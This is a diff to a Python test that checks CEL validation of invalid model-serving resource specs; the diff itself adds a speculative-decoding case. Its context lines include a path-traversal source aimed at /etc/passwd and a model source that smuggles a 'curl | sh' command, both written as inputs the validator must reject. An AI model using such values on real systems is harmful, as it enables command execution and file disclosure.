@@ -105,6 +105,7 @@ def test_invalid_objects_rejected_by_cel(cluster, namespace, chart):
              ({"replicas": 9}, "replicas must be within"), ({"engineSettings": {"tensorParallelSize": 0}}, "tensorParallelSize"),
              ({"engineSettings": {"speculative": {"method": "draft"}}}, "need draftModel"),
              ({"engineSettings": {"speculative": {"method": "eagle3"}}}, "need draftModel"),
+             ({"engineSettings": {"speculative": {"method": "ngram", "lookup": True}}}, "lookup combines n-gram lookup with methods draft"),
              ({"model": {"source": "ftp://nope"}}, "source"),
              ({"model": {"source": "pvc://claim/../../../etc/passwd"}}, "'..' are not allowed"),
              ({"model": {"source": 'hf://org/repo/x";curl${IFS}x|sh;echo${IFS}"\'.gguf'}}, "source"),
